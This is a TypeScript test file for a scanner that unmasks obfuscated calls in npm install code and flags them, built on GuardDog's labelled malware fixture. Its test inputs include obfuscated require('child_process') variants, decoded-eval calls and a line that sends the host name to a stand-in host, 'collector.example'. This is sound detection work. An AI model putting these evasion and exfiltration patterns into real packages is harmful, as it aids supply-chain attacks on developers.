/**
 * Names hidden from a reader (src/checks/lib/js-reveal.ts) and what the install-code reader finds
 * once they are plain: GuardDog's labelled `npm-api-obfuscation` cases (fixtures/install-code/
 * guarddog, fixtures/PROVENANCE.md) cut at their annotations, and edits that show each rule's edge.
 */
import { readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { readInstallJavaScript } from '../../src/checks/lib/js-code.js';
import { revealNames } from '../../src/checks/lib/js-reveal.js';

const SAMPLE = readFileSync(new URL('../../fixtures/install-code/guarddog/npm-api-obfuscation.js', import.meta.url), 'utf8');
const flags = (code: string) => readInstallJavaScript(code).map((f) => f.flag).sort();

/** The statement after each `// ruleid:` annotation inside the named function of the sample. */
function ruledLines(fn: string): string[] {
  const start = SAMPLE.indexOf(`function ${fn}(`);
  const end = SAMPLE.indexOf('\nfunction ', start + 1);
  const body = SAMPLE.slice(start, end < 0 ? undefined : end).split('\n');
  const lines: string[] = [];
  for (let i = 0; i < body.length - 1; i++) if (/\/\/ ruleid: npm-api-obfuscation/.test(body[i] ?? '')) lines.push((body[i + 1] ?? '').trim());
  return lines;
}

/** A plain bracket lookup by a literal name (`x['spawn']`), which bundlers also write: made plain, not counted as hiding. */
const PLAIN_BRACKET = /^\w+\[(['"])\w+\1\]/;

describe("GuardDog's npm-api-obfuscation cases", () => {
  const spawns = ruledLines('run_malicious_code');
  const hosts = ruledLines('exfiltrate_data').filter((line) => line.startsWith('host ='));

  test('the sample holds the cases it is cut into', () => {
    expect(spawns.length).toBeGreaterThanOrEqual(30);
    expect(hosts.length).toBeGreaterThanOrEqual(30);
  });

  test('every process call hidden by pieces, encodings, a variable or reflection is a hidden call', () => {
    const missed = spawns
      .filter((line) => !PLAIN_BRACKET.test(line))
      .filter((line) => !revealNames(`const process = require('child_process');\nstr = "spawn";\n${line}`).hidden.includes('spawn'));
    expect(missed).toEqual([]);
  });

  test('a plain bracket lookup is read as the call but not counted as hiding', () => {
    const plain = spawns.filter((line) => PLAIN_BRACKET.test(line));
    expect(plain.length).toBeGreaterThanOrEqual(4);
    for (const line of plain) {
      const revealed = revealNames(`const process = require('child_process');\n${line}`);
      expect([line, revealed.hidden]).toEqual([line, []]);
      expect(revealed.text).toContain('process.spawn');
    }
  });

  test('the host name sent out, however its lookup is hidden, is exfiltration', () => {
    const missed = hosts.filter((line) => {
      const code = `const os = require('os');\nconst http = require('http');\nstr = "hostname";\n${line}\nhttp['request']({ hostname: 'collector.example', path: '/?h=' + host });`;
      return !flags(code).includes('exfiltration');
    });
    expect(missed).toEqual([]);
  });

  test('the whole sample: exfiltration and a hidden call', () => {
    expect(flags(SAMPLE)).toEqual(['exfiltration', 'hidden-call']);
  });
});

describe('each disguise at its edge', () => {
  test.each([
    ['pieces', `require('child' + '_process')`, 'child_process'],
    ['a chain of pieces', `require('c' + 'h' + 'i' + 'l' + 'd' + '_' + 'p' + 'r' + 'o' + 'c' + 'e' + 's' + 's')`, 'child_process'],
    ['a joined list', `require(['child', 'process'].join('_'))`, 'child_process'],
    ['a reversed string', `require('ssecorp_dlihc'.split('').reverse().join(''))`, 'child_process'],
    ['hex escapes', `require("\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73")`, 'child_process'],
    ['unicode escapes', `require('\\u0063hild_process')`, 'child_process'],
    ['character codes', `require(String.fromCharCode(99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115))`, 'child_process'],
    ['a byte list', `require(Buffer.from([0x63, 0x68, 0x69, 0x6c, 0x64, 0x5f, 0x70, 0x72, 0x6f, 0x63, 0x65, 0x73, 0x73]).toString())`, 'child_process'],
    ['base64', `require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString('utf8'))`, 'child_process'],
    ['atob', `require(atob('Y2hpbGRfcHJvY2Vzcw=='))`, 'child_process'],
    ['hex', `require(Buffer.from('6368696c645f70726f63657373', 'hex').toString())`, 'child_process'],
    ['node: prefix in pieces', `require('node:child' + '_process')`, 'child_process'],
  ])('%s', (_label, code, name) => {
    const revealed = revealNames(code);
    expect(revealed.hidden).toEqual([name]);
    expect(revealed.text).toMatch(/require\('(?:node:)?child_process'\)/);
  });

  test('a module required through a disguise makes the process rules see it: a detached process', () => {
    const code = "const cp = require('child' + '_process');\ncp['sp' + 'awn']('node', ['x.js'], { detached: true, stdio: 'ignore' }).unref();";
    expect(flags(code)).toEqual(['detached-process', 'hidden-call']);
    // The same code written plainly: the detached process, no hiding.
    expect(flags("const cp = require('child_process');\ncp.spawn('node', ['x.js'], { detached: true, stdio: 'ignore' }).unref();")).toEqual(['detached-process']);
  });

  test('a decoded name does not remove the decoding the evaluation rules read', () => {
    // Folding 'Y29uc29sZS5sb2c=' into 'console.log' must not hide that eval runs decoded text.
    expect(flags("eval(Buffer.from('Y29uc29sZS5sb2c=', 'base64').toString())")).toContain('decoded-eval');
  });

  test.each([
    ['a URL built from pieces', `const url = 'https://' + 'example.com' + '/path';`],
    ['a bundler avoiding its own replacement', `if (process['env'].NODE_ENV !== 'production') console.warn('dev');`],
    ['a table keyed by a word', `const kind = 'request'; handlers[kind](payload);`],
    ['a base64 asset that is not a name', `const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64');`],
    ['character codes of ordinary text', `const sep = String.fromCharCode(44, 32);`],
    ['an honest spawn', `const { spawn } = require('child_process'); spawn(process.execPath, ['build.js'], { stdio: 'inherit' });`],
    ['a reflective lookup of an ordinary member', `const value = Reflect.get(options, 'timeout');`],
    ['pieces too long to be a name', `const msg = 'Please run ' + 'npm rebuild to build the native module';`],
  ])('not hiding: %s', (_label, code) => {
    expect(revealNames(code).hidden).toEqual([]);
    expect(flags(code)).toEqual([]);
  });

  test('a variable holding a name used as a lookup key', () => {
    expect(revealNames("const m = 'execSync'; require('child_process')[m]('id');").hidden).toEqual(['execSync']);
    // A name kept in a variable but never used as a key is not hiding.
    expect(revealNames("const m = 'execSync'; console.log(m);").hidden).toEqual([]);
  });
});

describe('eval reached through the global object', () => {
  test.each([
    ['globalThis.eval', "globalThis.eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());"],
    ['global with a hidden name', "global['ev' + 'al'](atob('Y29uc29sZS5sb2coMSk='));"],
    ['an indirect call', "(0, eval)(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());"],
  ])('%s runs decoded text', (_label, code) => {
    expect(flags(code)).toContain('decoded-eval');
  });

  test('a method of another object named eval is not the global one', () => {
    expect(flags("const result = interpreter.eval(Buffer.from(source, 'base64').toString());")).toEqual([]);
  });
});
